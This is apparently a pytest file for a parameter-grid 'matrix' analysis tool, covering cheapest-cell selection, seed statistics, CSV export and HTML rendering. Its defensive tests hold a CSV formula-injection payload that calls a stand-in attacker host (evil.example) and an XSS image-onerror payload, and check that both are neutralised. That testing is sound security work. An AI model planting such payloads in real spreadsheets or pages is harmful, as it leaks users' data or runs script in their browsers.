"""The matrix's own arithmetic on made-up plots: the cheapest cell within X % of the best and its sentence,
median and spread with several seeds, flagged cells never picked, lower-is-better figures, the CSV, bad
inputs, and every label escaped in the HTML."""

from __future__ import annotations

import csv
import io
import math

import numpy as np
import pandas as pd
import pytest

from paramlab.analysis.matrix import Layout, MatrixError, build_matrix, matrix_csv, parse_percent, quality_choices
from paramlab.tab.matrix.render import matrix_html

STEPS = [10, 20, 30]
CFGS = [5, 7, 9]
LAYOUT = Layout(["Steps", "CFG Scale", ""], [[f"Steps: {s}" for s in STEPS], [f"CFG Scale: {c}" for c in CFGS], [""]])


def plot_frame(cost: dict, quality: dict, seeds: int = 1, flaws: dict | None = None,
               spread: float = 0.0) -> pd.DataFrame:
    """One row per image: ``cost[(x, y)]`` and ``quality[(x, y)]`` per cell, ``seeds`` images each (quality
    spread evenly by ``spread`` around the cell's value), ``flaws[(x, y)]`` the codes of all its images."""
    rows, image_id = [], 0
    for (x, y), seconds in cost.items():
        for seed in range(seeds):
            image_id += 1
            offset = (seed - (seeds - 1) / 2) * spread
            rows.append({"x": x, "y": y, "z": 0, "image_id": image_id, "seed": 100 + seed, "cost_seconds": seconds,
                         "flaws": (flaws or {}).get((x, y), ""), "batch_size": 1,
                         "sharpness": quality[(x, y)] + offset, "noise": 10 - quality[(x, y)] / 100})
    return pd.DataFrame(rows)


def grid(values: list[list[float]]) -> dict:
    """values[y][x] → {(x, y): value}"""
    return {(x, y): values[y][x] for y in range(len(values)) for x in range(len(values[0]))}


COST = grid([[1.0, 2.0, 3.0], [1.1, 2.1, 3.1], [1.2, 2.2, 3.2]])  # seconds grow with steps (x)
SHARP = grid([[500, 800, 820], [520, 810, 830], [400, 790, 800]])  # 20 steps is nearly as good as 30


def test_the_cheapest_cell_within_the_percentage_of_the_best_is_picked_with_its_sentence() -> None:
    matrix = build_matrix(plot_frame(COST, SHARP), LAYOUT, "sharpness", percent=5)
    assert matrix.best.place == (2, 1, 0) and matrix.pick.place == (1, 0, 0)  # 800 ≥ 830 · 0.95, at 2.0 s
    assert matrix.sentence.startswith("Steps: 20 · CFG Scale: 5 costs 2 s/image, 35 % less than the best "
                                      "(Steps: 30 · CFG Scale: 7), and scores within 3.6 % of it on Sharpness")
    strict = build_matrix(plot_frame(COST, SHARP), LAYOUT, "sharpness", percent=0)
    assert strict.pick is strict.best and "scores best on" in strict.sentence
    loose = build_matrix(plot_frame(COST, SHARP), LAYOUT, "sharpness", percent=50)
    assert loose.pick.place == (0, 0, 0)  # 500 ≥ 830 · 0.5 and the cheapest of all


def test_a_lower_is_better_figure_picks_from_the_other_end() -> None:
    matrix = build_matrix(plot_frame(COST, SHARP), LAYOUT, "noise", percent=1)
    assert matrix.best.place == (2, 1, 0) and not matrix.higher_is_better  # noise = 10 − sharpness / 100
    assert matrix.pick.quality.median <= matrix.best.quality.median * 1.01


def test_several_seeds_per_cell_give_median_and_spread() -> None:
    matrix = build_matrix(plot_frame(COST, SHARP, seeds=4, spread=10.0), LAYOUT, "sharpness")
    cell = matrix.cell(1, 0, 0)
    assert (cell.images, cell.seeds) == (4, 4)
    # 785, 795, 805, 815: median 800, quartiles 792.5 and 807.5, range 785–815
    assert (cell.quality.median, cell.quality.low, cell.quality.high) == (800, 792.5, 807.5)
    assert (cell.quality.minimum, cell.quality.maximum, cell.quality.count) == (785, 815, 4)
    assert cell.cost.median == 2.0 and "Medians of 4 images per cell." in matrix.sentence
    assert "IQR 792–808 · range 785–815 · n=4" in matrix_html(matrix)
    assert cell.image_id in {5, 6, 7, 8}  # shown: an image of this cell nearest its median


def test_cells_flagged_in_most_images_are_never_the_pick() -> None:
    flaws = {(1, 0): "cfg_burn", (1, 1): "under_converged"}
    matrix = build_matrix(plot_frame(COST, SHARP, flaws=flaws), LAYOUT, "sharpness", percent=5)
    assert matrix.pick.place == (1, 2, 0) and matrix.cell(1, 0, 0).flaws == {"cfg_burn": 1}
    assert "2 cells flagged with flaws in most images were not considered." in matrix.sentence
    html = matrix_html(matrix)
    assert html.count("CFG burn</span>") == 1 and html.count("under-converged</span>") == 1


def test_the_csv_has_one_line_per_cell_with_its_figures_and_flags() -> None:
    matrix = build_matrix(plot_frame(COST, SHARP, seeds=2, spread=4.0), LAYOUT, "sharpness")
    lines = list(csv.DictReader(io.StringIO(matrix_csv(matrix))))
    assert len(lines) == 9 and [(int(r["y"]), int(r["x"])) for r in lines] == [(y, x) for y in range(3)
                                                                               for x in range(3)]
    pick = next(r for r in lines if r["pick"] == "yes")
    best = next(r for r in lines if r["best"] == "yes")
    assert (pick["x label"], pick["y label"]) == ("Steps: 20", "CFG Scale: 5")
    assert (best["x label"], best["y label"]) == ("Steps: 30", "CFG Scale: 7")
    assert pick["s/image median"] == "2" and pick["quality median"] == "800" and pick["quality min"] == "798"
    assert pick["quality max"] == "802" and pick["images"] == "2" and pick["seeds"] == "2" and pick["quality"] == (
        "sharpness")


def test_the_csv_writes_formula_labels_as_text_and_keeps_negative_numbers() -> None:
    """OWASP's rule: a cell starting with =, +, -, @, tab or CR gets a leading quote; figures stay numbers."""
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3"]
    layout = Layout(["Steps", "CFG Scale", ""], [formulas, ["@SUM(A1:A9)", "\tTab", "\rReturn"], [""]])
    quality = dict.fromkeys(SHARP, 1150)  # noise = 10 − 1150 / 100 = −1.5 in every cell
    rows = list(csv.DictReader(io.StringIO(matrix_csv(build_matrix(plot_frame(COST, quality), layout, "noise")))))
    assert {row["x label"] for row in rows} == {"'" + label for label in formulas}
    assert {row["y label"] for row in rows} == {"'@SUM(A1:A9)", "'\tTab", "'\rReturn"}
    assert {row["quality median"] for row in rows} == {"-1.5"} and {row["quality min"] for row in rows} == {"-1.5"}


def test_no_quality_figure_yet_says_so_and_picks_nothing() -> None:
    frame = plot_frame(COST, SHARP)
    frame["sharpness"] = np.nan
    matrix = build_matrix(frame, LAYOUT, "sharpness")
    assert matrix.pick is None and matrix.sentence.startswith("No cell has both a cost and a Sharpness")
    assert "—" in matrix_html(matrix)


def test_bad_inputs_are_refused_with_a_clear_message() -> None:
    assert parse_percent(None) == 5.0 and parse_percent("12.5") == 12.5
    for bad, words in (("abc", "must be a number"), (-1, "from 0 to 100"), (101, "from 0 to 100"),
                       (math.nan, "from 0 to 100")):
        with pytest.raises(MatrixError, match=words):
            parse_percent(bad)
    with pytest.raises(MatrixError, match="Unknown quality figure 'beauty'"):
        build_matrix(plot_frame(COST, SHARP), LAYOUT, "beauty")
    assert list(quality_choices(plot_frame(COST, SHARP)))[:3] == ["composite", "sharpness", "noise"]


def test_every_label_is_escaped_in_the_html() -> None:
    hostile = "<img src=x onerror=alert(1)>"
    layout = Layout([hostile, "", ""], [[hostile, "b", "c"], ["1", "2", "3"], [""]])
    html = matrix_html(build_matrix(plot_frame(COST, SHARP), layout, "sharpness"), title=hostile)
    assert hostile not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_a_tiny_gap_reads_within_0_1_percent_never_0_0() -> None:
    sharp = dict(SHARP)
    sharp[(0, 0)] = 829.9  # the cheapest cell, 0.012 % below the best
    matrix = build_matrix(plot_frame(COST, sharp), LAYOUT, "sharpness", percent=1)
    assert matrix.pick.place == (0, 0, 0) and "scores within 0.1 % of it" in matrix.sentence
